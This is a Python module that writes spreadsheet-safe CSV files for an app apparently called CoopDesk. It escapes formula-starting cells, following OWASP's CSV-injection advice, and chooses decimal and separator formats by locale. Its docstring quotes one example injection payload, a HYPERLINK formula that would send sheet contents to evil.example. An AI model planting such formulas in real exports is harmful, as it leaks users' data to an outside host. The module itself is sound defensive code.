"""CSV files for spreadsheets: the one writer every CSV CoopDesk makes goes through.

Two things go wrong when a spreadsheet opens a CSV, and this module prevents both:

- **Formulas.** A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab, a
  carriage return, a line feed or a NUL) is read as a formula by LibreOffice, Gnumeric and
  Excel: an item named ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would become a
  live link that sends the sheet away. As OWASP recommends (CSV Injection), such text cells
  get a single quote in front, every text cell is wrapped in double quotes and its double
  quotes are doubled (RFC 4180), so a separator inside a name never starts a new cell.
  Numbers the app computes are written as plain numbers and are never altered.
- **Decimals.** In comma-decimal locales (de, fr, es...) spreadsheets read 0.25 as text.
  The person picks the format (comma or semicolon separated, decimal point or comma); the
  default follows the computer's locale: a decimal comma with semicolons, as LibreOffice
  and Excel themselves expect there.

The file is UTF-8 with a byte-order mark (so accents survive a double click in Excel) and
CRLF line ends (RFC 4180), and is written by ``coopdesk.base.files`` (one set of rules).
"""

from __future__ import annotations

import locale
import os
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

from coopdesk.base.errors import ValidationError
from coopdesk.base.files import write_file
from coopdesk.base.i18n import N_, _

# OWASP's list (and ASVS 1.2.10's NUL), plus the line feed, which also starts a formula
# in some spreadsheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
SEPARATORS = {",": "comma", ";": "semicolon"}
DECIMAL_SIGNS = {".": "point", ",": "comma"}
# Each format a person may choose, in words (a comma cannot be both: see CsvFormat).
FORMAT_LABELS = {
    (",", "."): N_("comma-separated, decimal point (0.25)"),
    (";", ","): N_("semicolon-separated, decimal comma (0,25)"),
    (";", "."): N_("semicolon-separated, decimal point (0.25)"),
}

Cell = str | int | float | Decimal | None


@dataclass(frozen=True)
class CsvFormat:
    """How the file separates cells and writes decimals (never both with a comma)."""

    separator: str = ","
    decimal: str = "."

    def __post_init__(self) -> None:
        if self.separator not in SEPARATORS:
            raise ValidationError(
                _("The separator {separator!r} is not offered: use ',' or ';'.").format(
                    separator=self.separator
                )
            )
        if self.decimal not in DECIMAL_SIGNS:
            raise ValidationError(
                _("The decimal sign {decimal!r} is not offered: '.' or ','.").format(
                    decimal=self.decimal
                )
            )
        if self.separator == self.decimal:
            raise ValidationError(
                _(
                    "Cells separated by commas cannot have a decimal comma too: use ';' as "
                    "the separator with a decimal comma."
                )
            )

    @property
    def label(self) -> str:
        """ "semicolon-separated, decimal comma (0,25)", for people choosing a format."""
        return _(FORMAT_LABELS[(self.separator, self.decimal)])


# The formats offered: what spreadsheets in decimal-point and decimal-comma locales read
# without asking, and semicolons with a point (some coops' accounting tools).
FORMATS = (CsvFormat(",", "."), CsvFormat(";", ","), CsvFormat(";", "."))

# Languages whose numbers use a decimal comma (CLDR), for computers where the locale is
# named but not installed, so ``localeconv`` cannot be asked; regions that differ follow.
_COMMA_LANGUAGES = (
    "af az be bg bs ca cs da de el es et eu fi fo fr gl hr hu hy id is it ka kk ky lt lv "
    "mk mn nb nl nn no pl pt ro ru sk sl sq sr sv tr uk uz vi"
)
_POINT_REGIONS = "de_CH de_LI it_CH fr_CH es_MX es_US es_PR es_DO es_GT es_HN es_NI es_PA es_PE"
COMMA_LANGUAGES = frozenset(_COMMA_LANGUAGES.split())
POINT_REGIONS = frozenset(_POINT_REGIONS.split())


def _locale_name(environ: Mapping[str, str]) -> str:
    """The locale numbers follow, by POSIX precedence: LC_ALL, then LC_NUMERIC, then LANG."""
    for key in ("LC_ALL", "LC_NUMERIC", "LANG"):
        value = environ.get(key, "")
        if value:
            return value
    return ""


def _asked_decimal_sign(name: str) -> str | None:
    """The C library's decimal sign for ``name`` ("" = the user's default), if installed."""
    try:
        saved = locale.setlocale(locale.LC_NUMERIC)
    except locale.Error:
        return None
    try:
        locale.setlocale(locale.LC_NUMERIC, name)
        sign = str(locale.localeconv()["decimal_point"])
    except (locale.Error, ValueError):
        return None
    finally:
        try:
            locale.setlocale(locale.LC_NUMERIC, saved)
        except locale.Error:
            locale.setlocale(locale.LC_NUMERIC, "C")
    return sign if sign in DECIMAL_SIGNS else None


def locale_decimal_sign(environ: Mapping[str, str] | None = None) -> str:
    """ "," where the computer's locale writes 0,25; "." elsewhere and when unknown."""
    environ = os.environ if environ is None else environ
    name = _locale_name(environ)
    if name in ("C", "POSIX") or name.startswith(("C.", "POSIX.")):
        return "."
    asked = _asked_decimal_sign(name)
    if asked is not None:
        return asked
    region = name.split(".")[0].split("@")[0]
    language = region.split("_")[0].lower()
    if region in POINT_REGIONS:
        return "."
    return "," if language in COMMA_LANGUAGES else "."


def locale_format(environ: Mapping[str, str] | None = None) -> CsvFormat:
    """The format a spreadsheet on this computer opens without questions."""
    return CsvFormat(";", ",") if locale_decimal_sign(environ) == "," else CsvFormat(",", ".")


def chosen_format(separator: str | None = None, decimal: str | None = None) -> CsvFormat:
    """The format asked for; what is not given follows the locale (or the other choice)."""
    if separator is None and decimal is None:
        return locale_format()
    if separator is None:
        separator = ";" if decimal == "," else locale_format().separator
    if decimal is None:
        decimal = "." if separator == "," else locale_format().decimal
    return CsvFormat(separator, decimal)


# -- cells ------------------------------------------------------------------------------------


def escape_text(text: str) -> str:
    """Text a spreadsheet shows as text: a quote before anything that would start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _number(value: int | float | Decimal, decimal: str) -> str:
    if isinstance(value, bool):
        value = int(value)
    if isinstance(value, float):
        value = Decimal(repr(value))
    text = format(value, "f") if isinstance(value, Decimal) else str(value)
    return text.replace(".", decimal)


def cell_text(value: Cell, csv_format: CsvFormat) -> str:
    """One cell as it stands in the file (quoted text, or a bare number)."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return _number(value, csv_format.decimal)
    quoted = escape_text(str(value)).replace('"', '""')
    return f'"{quoted}"'


def csv_bytes(
    header: Sequence[str], rows: Iterable[Sequence[Cell]], csv_format: CsvFormat
) -> bytes:
    """The whole file: a header row, then ``rows``, escaped and formatted."""
    lines = [
        csv_format.separator.join(cell_text(value, csv_format) for value in row)
        for row in (list(header), *rows)
    ]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8-sig")


def write_csv(
    path: str | os.PathLike[str],
    header: Sequence[str],
    rows: Iterable[Sequence[Cell]],
    csv_format: CsvFormat | None = None,
    *,
    default_name: str,
) -> Path:
    """Write a CSV for people (umask permissions) where asked; returns the path written."""
    data = csv_bytes(header, rows, csv_format or locale_format())
    return write_file(path, data, default_name=default_name)
